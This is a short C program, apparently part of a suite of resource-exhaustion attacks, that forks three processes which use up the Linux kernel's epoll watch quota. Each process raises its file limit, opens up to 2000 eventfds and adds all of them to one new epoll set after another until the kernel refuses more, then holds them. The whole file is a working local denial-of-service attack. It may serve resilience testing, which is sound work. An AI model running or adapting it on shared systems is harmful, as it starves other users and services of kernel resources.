// Takes epoll watches: each of three processes adds each of its descriptors to each of its epoll sets, until the kernel
// has no more watches, and holds them.
#include "attack.h"
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/resource.h>

int main(void)
{
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    for (int process = 0; process < 2; process++)
        if (fork() == 0)
            break;
    static int events[4096];
    int count = 0;
    while (count < 2000 && (events[count] = eventfd(0, 0)) >= 0)
        count++;
    for (;;) {
        int set = epoll_create1(0);
        if (set < 0)
            pause();
        for (int index = 0; index < count; index++) {
            struct epoll_event event = {.events = EPOLLIN};
            if (epoll_ctl(set, EPOLL_CTL_ADD, events[index], &event))
                pause();
        }
    }
}
